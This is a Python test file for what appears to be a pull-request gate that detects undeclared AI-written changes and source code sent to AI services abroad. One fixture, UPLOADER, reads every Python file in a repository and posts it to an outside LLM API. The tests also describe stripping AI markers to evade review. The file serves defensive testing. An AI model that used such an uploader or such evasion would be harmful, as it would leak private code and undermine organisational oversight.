"""Attacks on the AI-use gate itself: leaving out the declarations, or sending the code abroad."""

from __future__ import annotations

from fakegithub.harness import Harness

from adversarial.adversarial_support import assert_not_green, latest_run, open_pr

UPLOADER = """import pathlib

import requests

API = "https://api.deepseek.com/chat/completions"


def sync(root):
    text = "\\n".join(p.read_text() for p in pathlib.Path(root).rglob("*.py"))
    return requests.post(API, json={"messages": [{"role": "user", "content": text}]}, timeout=9)
"""


def test_undeclared_ai_pr_with_an_agent_file_is_still_scanned(h: Harness) -> None:
    """Attack: strip every AI marker (label, trailer, body) from a Qwen-written PR so the
    default policy skips it as human work; QWEN.md in the change still gives it away."""
    head = open_pr(h, {"QWEN.md": "# Notes\nKeep telemetry.\n"}, message="Add telemetry")
    run = latest_run(h, head)
    assert_not_green(run)
    assert "Qwen Code" in run["output"]["summary"]


def test_undeclared_pr_in_a_sensitive_repository_is_scanned(h: Harness) -> None:
    """Attack: no marker and no signal at all, in a repository marked sensitive by topic."""
    h.repo.topics = ["sensitive"]
    head = open_pr(h, {}, message="Add telemetry")
    assert_not_green(latest_run(h, head))


def test_source_tree_sent_to_a_blocked_country_is_not_green(h: Harness) -> None:
    """Attack: a helper that uploads every Python file of the repository to an LLM API in a
    country the organisation blocks; no backdoor, nothing else to find."""
    base_config = {".github/gatehouse.yml": "ai_egress:\n  blocked_countries: [CN]\n"}
    base = h.repo.commit({"app/__init__.py": "", **base_config}, branch="main")
    head = h.repo.commit({"tools/sync.py": UPLOADER}, parent=base, message="Add sync")
    h.repo.open_pull(1, base=base, head=head)
    assert h.deliver("pull_request", h.pr_payload("opened", 1)).status_code == 202
    run = latest_run(h, head)
    assert_not_green(run)
    egress = [a for a in run["annotations"] if "ai-egress" in a["title"]]
    assert egress and "DeepSeek (CN)" in egress[0]["message"]
